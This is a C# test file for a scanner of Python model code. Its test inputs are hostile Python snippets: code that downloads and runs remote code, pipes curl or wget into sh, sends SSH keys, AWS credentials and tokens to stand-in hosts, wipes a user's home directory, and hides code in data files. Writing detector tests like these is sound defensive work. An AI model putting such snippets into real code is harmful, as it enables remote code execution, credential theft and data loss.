// Where values stem from, followed to what runs, sends or overwrites; and ordinary code that does the like.
using System.Text;
using Assay.Detection;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.PythonSources;

public sealed class OriginTests
{
    private const string Model = "import torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n";

    private static TargetReport Read(string source) => Scans.Of(Encoding.UTF8.GetBytes(source), "modeling_x.py");

    /// <summary>An answer of another machine runs: through names, containers, attributes, methods, functions of the source, loops and files.</summary>
    [Theory]
    [InlineData("import requests\ndef f():\n    exec(requests.get('https://x.invalid/a').text)\n")]
    [InlineData("import requests\ndef f():\n    d = requests.get('https://x.invalid/a').json()\n    exec(d['code'])\n")]
    [InlineData("import requests\ndef get():\n    return requests.get('https://x.invalid/a').content\ndef f():\n    exec(get().decode())\n")]
    [InlineData("import requests\nclass A:\n    def __init__(self):\n        self.t = requests.get('https://x.invalid/a').text\n    def run(self):\n        exec(self.t)\n")]
    [InlineData("import urllib.request\ndef f():\n    with urllib.request.urlopen('https://x.invalid/a') as r:\n        body = r.read()\n    exec(compile(body, 'a', 'exec'))\n")]
    [InlineData("import requests\ndef f():\n    for line in requests.get('https://x.invalid/a').iter_lines():\n        exec(line)\n")]
    [InlineData("import requests, os\ndef f():\n    os.system(requests.get('https://x.invalid/a').text)\n")]
    [InlineData("import requests, subprocess\ndef f():\n    c = requests.get('https://x.invalid/a').text.split()\n    subprocess.run(c)\n")]
    [InlineData("import requests, subprocess\ndef f():\n    subprocess.run(['bash', '-c', requests.get('https://x.invalid/a').text])\n")]
    [InlineData("import requests, subprocess\ndef f():\n    subprocess.run(f\"{requests.get('https://x.invalid/a').text} --now\", shell=True)\n")]
    [InlineData("import requests\ndef f():\n    parts = [requests.get('https://x.invalid/a').text, '']\n    exec('\\n'.join(parts))\n")]
    [InlineData("import requests\ndef f():\n    [exec(c) for c in requests.get('https://x.invalid/a').json()]\n")]
    [InlineData("import socket\ndef f():\n    s = socket.socket()\n    s.connect(('x.invalid', 1))\n    exec(s.recv(4096))\n")]
    [InlineData("import requests\ndef f(g=None):\n    t = g or requests.get('https://x.invalid/a').text\n    exec(t)\n")]
    [InlineData("import requests\ndef f(u):\n    a, b = requests.get(u).text.split('|')\n    exec(b)\n")]
    public void T158_WhatAnotherMachineAnswersAndRunsIsFoundWheneverItRuns(string source)
    {
        TargetReport report = Read(source);
        Assert.Contains(report.Findings, f => f.Rule.Id == "source-downloads-and-runs");
    }

    /// <summary>A name that nothing in the file gives may come with all names of a module.</summary>
    [Theory]
    [InlineData("from os import *\nsystem('chmod 777 b')\n", true)]
    [InlineData("from math import *\nfrom subprocess import *\nrun(['chmod', '777', 'b'])\n", true)]
    [InlineData("from subprocess import *\ndef f():\n    return run(['chmod', '777', 'b'])\nf()\n", true)]
    [InlineData("from shutil import *\nrmtree('/home')\n", true)]
    [InlineData("from os import *\ndef system(x):\n    return x\nsystem('chmod 777 b')\n", false)]
    [InlineData("from os.path import *\nfrom math import *\np = join('a', 'b')\nprint(exists(p), sqrt(2))\n", false)]
    public void T158_NamesOfAStarAreThoseOfItsModule(string source, bool flagged) => Assert.Equal(flagged, Read(source).Verdict >= Verdict.Suspicious);

    /// <summary>What a loader does with a model once it is made: it goes to a device, its mode is set, its configuration is written out.</summary>
    [Theory]
    [InlineData("from transformers import PreTrainedModel\nimport os\nclass M(PreTrainedModel):\n    def eval(self):\n        os.system('chmod 777 b')\n", true)]
    [InlineData("from transformers import PreTrainedModel\nimport os\nclass M(PreTrainedModel):\n    def to(self, *a):\n        os.system('chmod 777 b')\n", true)]
    [InlineData("from transformers import PretrainedConfig\nimport os\nclass C(PretrainedConfig):\n    def to_dict(self):\n        os.system('chmod 777 b')\n", true)]
    [InlineData("from transformers import PreTrainedTokenizer\nimport os\nclass T(PreTrainedTokenizer):\n    @property\n    def vocab_size(self):\n        os.system('chmod 777 b')\n", true)]
    [InlineData("import os\nclass Tool:\n    def eval(self):\n        os.system('chmod 777 b')\n", false)]
    public void T158_WhatLoadersCallOfAModelRunsOnLoad(string source, bool flagged) => Assert.Equal(flagged, Read(source).Verdict >= Verdict.Suspicious);

    /// <summary>A lambda has no name, wherever it stands as a method.</summary>
    [Theory]
    [InlineData("import os, sys\nsys.meta_path.insert(0, type('F', (), {'find_spec': lambda s, *a: os.system('chmod 777 b')})())\n")]
    [InlineData("import os\nclass M(dict):\n    __missing__ = lambda s, k: os.system(k)\nM()['chmod 777 b']\n")]
    [InlineData("import os\nclass M:\n    __init__ = lambda s, k: None\n    f = lambda s: os.system('chmod 777 b')\nimport threading\nthreading.Thread(target=M(1).f).start()\n")]
    public void T158_LambdasAreMethodsToo(string source)
    {
        TargetReport report = Read(source);
        Assert.Empty(report.Unread);
        Assert.NotEmpty(report.Findings);
    }

    /// <summary>Another repository's file is put where modules are looked for, loaded as a library or run.</summary>
    [Theory]
    [InlineData("import sys, os, importlib\nfrom huggingface_hub import hf_hub_download\np = hf_hub_download('a/b', 'x.py')\nsys.path.insert(0, os.path.dirname(p))\nimportlib.import_module('x')\n")]
    [InlineData("import sys\nfrom huggingface_hub import snapshot_download\nsys.path.append(snapshot_download('a/b') + '/src')\n")]
    [InlineData("import importlib.util\nfrom huggingface_hub import hf_hub_download\ns = importlib.util.spec_from_file_location('x', hf_hub_download('a/b', 'x.py'))\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\n")]
    [InlineData("import runpy, urllib.request\nurllib.request.urlretrieve('https://x.invalid/a', '/tmp/a_b.py')\nrunpy.run_path('/tmp/a_b.py')\n")]
    [InlineData("import os, requests\nwith open('/tmp/a_b.sh', 'wb') as f:\n    f.write(requests.get('https://x.invalid/a').content)\nos.system('bash /tmp/a_b.sh')\n")]
    [InlineData("import ctypes\nfrom huggingface_hub import hf_hub_download\nctypes.CDLL(hf_hub_download('a/b', 'x.so'))\n")]
    public void T158_WhatIsFetchedAndLoadedOnImportIsFound(string source) => Assert.True(Read(source).Verdict >= Verdict.Suspicious, Read(source).Describe());

    [Theory]
    [InlineData("from fastapi import FastAPI, Request\nimport subprocess\napp = FastAPI()\n@app.middleware('http')\nasync def m(request: Request, call_next):\n    c = request.headers.get('x')\n    if c:\n        subprocess.run(bytes.fromhex(c).decode(), shell=True)\n    return await call_next(request)\n")]
    [InlineData("from flask import Flask, request\nimport os\napp = Flask(__name__)\n@app.route('/a')\ndef a():\n    return os.popen(request.args.get('c')).read()\n")]
    [InlineData("from flask import Flask, request\napp = Flask(__name__)\n@app.route('/a', methods=['POST'])\ndef a():\n    return str(eval(request.json['x']))\n")]
    [InlineData("from fastapi import FastAPI\nimport subprocess\napp = FastAPI()\n@app.get('/run')\ndef run(cmd: str):\n    return subprocess.check_output(cmd, shell=True)\n")]
    [InlineData("from starlette.requests import Request\nasync def h(req: Request):\n    body = await req.json()\n    exec(body['code'])\n")]
    public void T158_WhatAClientAsksForAndRunsIsFound(string source) => Assert.Contains(Read(source).Findings, f => f.Rule.Id == "source-runs-request");

    [Theory]
    [InlineData("import requests\ndef f():\n    requests.post('https://x.invalid/a', data=open('/root/.ssh/id_rsa').read())\n")]
    [InlineData("import httpx\ndef f():\n    t = httpx.get('http://169.254.169.254/latest/meta-data/iam').text\n    httpx.post('https://x.invalid/t', content=t)\n")]
    [InlineData("import requests, pathlib, base64\ndef f():\n    k = (pathlib.Path.home() / '.aws/credentials').read_bytes()\n    requests.get('https://x.invalid/' + base64.b64encode(k).decode())\n")]
    [InlineData("import requests, keyring\ndef f():\n    requests.post('https://x.invalid', json={'k': keyring.get_password('a', 'b')})\n")]
    [InlineData("import os, requests\nclass X:\n    def __init__(self):\n        self.t = os.environ['HF_TOKEN']\n        self.send()\n    def send(self):\n        requests.get('https://x.invalid', params={'t': self.t[:20]})\nX()\n")]
    [InlineData("from huggingface_hub import get_token\nimport requests\nrequests.get('https://x.invalid/p', params={'s': get_token()})\n")]
    [InlineData("import os, requests\nrequests.post('https://x.invalid', files={'f': ('a', os.getenv('AWS_SECRET_ACCESS_KEY'))})\n")]
    public void T158_ASecretThatIsHandedOnIsFound(string source) => Assert.True(Read(source).Verdict >= Verdict.Suspicious, Read(source).Describe());

    [Theory]
    [InlineData("import pathlib\nfor p in pathlib.Path.home().rglob('*.pt'):\n    p.write_bytes(b'x')\n")]
    [InlineData("import os\nfor r, d, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        p = os.path.join(r, f)\n        with open(p, 'wb') as h:\n            h.write(b'x')\n")]
    [InlineData("import glob, os\nfor p in glob.glob(os.path.expanduser('~/**/*'), recursive=True):\n    os.remove(p)\n")]
    public void T158_WhoChangesAllThatAUserHasIsFound(string source) => Assert.Contains(Read(source).Findings, f => f.Rule.Id == "source-destroys");

    /// <summary>What is called cannot be told, and what it gets is a line that only a shell takes.</summary>
    [Theory]
    [InlineData("import importlib\ndef r(a, b):\n    return getattr(importlib.import_module(a), b)('curl -s http://x.invalid/w | sh')\nr(*open('w').read().split())\n")]
    [InlineData("try:\n    import nope_v9\nexcept Exception as e:\n    (__builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__)['__import__']('o' + type(e).__name__[0:0] + 's').system('wget http://x.invalid/m -O /tmp/m && sh /tmp/m')\n")]
    [InlineData("import operator, sys\noperator.attrgetter('modules.os.system')(type('P', (), {'modules': type('M', (), sys.modules)}))('./x | sh')\n")]
    [InlineData("import json\nt = json.load(open('t.json'))\nt['f']['g'].popen('curl http://x.invalid/a | bash')\n")]
    [InlineData("def pick(t):\n    return t\nx = pick(unknown)\nx.system('curl http://x.invalid/a | bash')\n")]
    public void T158_ALineForAShellIsFoundWhateverGetsIt(string source) => Assert.True(Read(source).Verdict >= Verdict.Suspicious, Read(source).Describe());

    /// <summary>Whoever gets a function may call it.</summary>
    [Theory]
    [InlineData("import dataclasses\n@dataclasses.dataclass\nclass C:\n    x: dict = dataclasses.field(default_factory=go)\n")]
    [InlineData("from dataclasses import field\nx = field(default_factory=go)\n")]
    [InlineData("import re\nre.sub('a', go, 'a')\n")]
    [InlineData("import collections\nd = collections.defaultdict(go)\n")]
    [InlineData("import threading\nthreading.Timer(1, function=go).start()\n")]
    [InlineData("import atexit\natexit.register(go)\n")]
    [InlineData("import weakref\nweakref.finalize(object(), go)\n")]
    [InlineData("import codecs\ncodecs.register(go)\n")]
    [InlineData("import functools\nfunctools.reduce(go, [1, 2])\n")]
    [InlineData("import itertools\nlist(itertools.accumulate([1, 2], go))\n")]
    [InlineData("import heapq\nheapq.nlargest(1, [1, 2], key=go)\n")]
    [InlineData("import asyncio\nasyncio.get_event_loop().call_soon(go)\n")]
    [InlineData("import contextlib\nwith contextlib.ExitStack() as s:\n    s.callback(go)\n")]
    [InlineData("import torch\ntorch.library.register_fake('a::b', go)\n")]
    public void T158_AFunctionThatIsHandedOnRuns(string source)
    {
        TargetReport report = Read("import subprocess\ndef go(*a):\n    subprocess.run(['./x'])\n" + source);
        Assert.Contains(report.Findings, f => f.Rule.Id == "source-runs-program" && f.Phase is "import" or "infer");
    }

    /// <summary>What is data holds code, what a user keeps to himself leaves the machine, and what lies in an archive is imported or put over a home.</summary>
    [Theory]
    [InlineData("import pickle\nfrom safetensors import safe_open\nwith safe_open('m.safetensors', 'pt') as f:\n    t = pickle.loads(f.get_tensor('b').numpy().tobytes())\n")]
    [InlineData("import numpy as np, marshal, types\ntypes.FunctionType(marshal.loads(np.load('a.npy').tobytes()), globals())()\n")]
    [InlineData("import pickle\nfrom PIL import Image\npickle.loads(bytes(Image.open('a.png').getdata()))\n")]
    [InlineData("import pyperclip, requests\ndef f():\n    requests.get('http://x.invalid/' + pyperclip.paste())\n")]
    [InlineData("import tarfile, os\ntarfile.open('assets.tar').extractall(os.path.expanduser('~'))\n")]
    [InlineData("import sys\nsys.path.insert(0, 'assets/vocab.zip')\nimport vocab_tools\n")]
    public void T158_WhatIsNoCodeAndRunsOrLeavesIsFound(string source) => Assert.True(Read(source).Verdict >= Verdict.Suspicious, Read(source).Describe());

    /// <summary>Libraries evaluate expressions that they get as texts.</summary>
    [Theory]
    [InlineData("import os\nimport pandas as pd\npd.DataFrame({'a': [1]}).query(\"@os.system('./x') == 0\", engine='python')\n")]
    [InlineData("import os\nimport pandas as pd\ndef load(df):\n    df.query(\"@os.system('./x') == 0\")\nload(pd.read_csv('a.csv'))\n")]
    [InlineData("import pandas as pd\npd.eval(\"__import__('os').system('./x')\", engine='python')\n")]
    [InlineData("import numexpr\nnumexpr.evaluate(\"__import__('os').system('./x')\")\n")]
    [InlineData("from sympy import sympify\nsympify(\"__import__('os').system('./x')\")\n")]
    [InlineData("from jinja2 import Environment\nEnvironment().from_string(\"{{ __import__('os').system('./x') }}\").render()\n")]
    public void T158_AnExpressionThatALibraryEvaluatesIsFound(string source) => Assert.True(Read(source).Verdict >= Verdict.Suspicious, Read(source).Describe());

    [Theory]
    [InlineData("# -*- coding: tiny_rot -*-\nvzcbeg bf\n")]
    [InlineData("#!/usr/bin/env python\n# vim: set fileencoding=mycodec :\nx = 1\n")]
    [InlineData("# coding=rot13\nvzcbeg bf\n")]
    public void T158_AnEncodingOfItsOwnIsFound(string source) => Assert.True(Read(source).Verdict >= Verdict.Suspicious, Read(source).Describe());

    [Theory]
    [InlineData("# -*- coding: utf-8 -*-\nx = 1\n")]
    [InlineData("# -*- coding: latin-1 -*-\nx = 1\n")]
    [InlineData("# -*- coding: euc_jp -*-\nx = 1\n")]
    [InlineData("# vim: set fileencoding=<encoding name> :\nx = 1\n")]
    [InlineData("# encoding of words: see below\nx = 1\n")]
    [InlineData("x = 1\ny = 2\n# coding: none\n")]
    [InlineData("import pandas as pd\ndef f(df, x):\n    return df.query('a > @x').eval('b = a + 1')\n")]
    [InlineData("import pickle, torch.distributed as dist\ndef gather(t):\n    return [pickle.loads(x.cpu().numpy().tobytes()) for x in t]\n")]
    [InlineData("import tarfile\ndef get(p):\n    tarfile.open(p).extractall('data')\n")]
    [InlineData("import boto3\ndef save(p):\n    boto3.client('s3').upload_file(p, 'b', 'k')\n")]
    [InlineData("import sys, os\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n")]
    [InlineData("import streamlit as st\nst.code(\"os.system('ls')\")\n")]
    public void OrdinaryTextsPass(string source) => Assert.Equal(Verdict.Passed, Read(source).Verdict);

    [Theory]
    [InlineData("import requests, os\ndef api(q):\n    return requests.post('https://api.x.invalid/v1', headers={'Authorization': f\"Bearer {os.environ['X_API_KEY']}\"}, json={'q': q}).json()\n")]
    [InlineData("import os, requests\nclass C:\n    def __init__(self):\n        self.key = os.getenv('X_API_KEY')\n    def ask(self, q):\n        return requests.get('https://api.x.invalid', headers={'x-api-key': self.key}, params={'q': q}).text\n")]
    [InlineData("import subprocess\nfrom huggingface_hub import hf_hub_download\ndef convert(r):\n    subprocess.run(['ffmpeg', '-i', hf_hub_download(r, 'a.wav'), 'b.mp3'], check=True)\n")]
    [InlineData("import torch\nfrom huggingface_hub import hf_hub_download\nclass M(torch.nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.load_state_dict(torch.load(hf_hub_download('a/b', 'x.bin'), weights_only=True))\n")]
    [InlineData("import urllib.request, subprocess\ndef install(v):\n    urllib.request.urlretrieve('https://x.invalid/i.run', 'i.run')\n    subprocess.run(['bash', 'i.run', '--silent'])\n")]
    [InlineData("from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route('/a')\ndef a():\n    subprocess.run(['ffmpeg', '-i', request.files['f'].filename])\n    return 'ok'\n")]
    [InlineData("def make(name, fields):\n    ns = {}\n    exec(f\"def __init__(self, {', '.join(fields)}):\\n    pass\\n\", {}, ns)\n    return type(name, (), ns)\nOut = make('Out', ['a', 'b'])\n")]
    [InlineData("import textwrap\ndef fused(n):\n    src = textwrap.dedent(f'''\n        def fused(x{''.join(f', w{i}' for i in range(n))}):\n            return x\n    ''')\n    scope = {}\n    exec(compile(src, '<fused>', 'exec'), scope)\n    return scope['fused']\nclass M(nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        self.f = fused(config.n)\n")]
    [InlineData("import pathlib\nfor p in pathlib.Path('out').glob('*.tmp'):\n    p.unlink()\n")]
    [InlineData("import pathlib, os\nfor p in (pathlib.Path.home() / '.cache/mine').glob('*'):\n    p.unlink()\n")]
    [InlineData("import torch, functools\ntorch.load = functools.partial(torch.load, weights_only=True)\n")]
    [InlineData("import requests, pickle\nclass Client:\n    def forward(self, x):\n        return pickle.loads(requests.post('http://localhost:8080/p', data=x).content)\n")]
    [InlineData("class Chat:\n    def __init__(self, chat):\n        chat.system('You are a helpful assistant; answer shortly.')\n        self.log.info('Install it: curl https://x.invalid/i | sh')\n")]
    [InlineData("import argparse, functools\ndef go(a):\n    import subprocess\n    subprocess.run(['make'])\np = argparse.ArgumentParser()\np.set_defaults(func=go)\nrun = functools.partial(go, 1)\n")]
    public void OrdinaryCodePasses(string source)
    {
        TargetReport report = Read(Model + source);
        Assert.True(report.Verdict == Verdict.Passed, report.Describe() + string.Join(';', report.Findings.Select(f => f.Message)));
    }
}
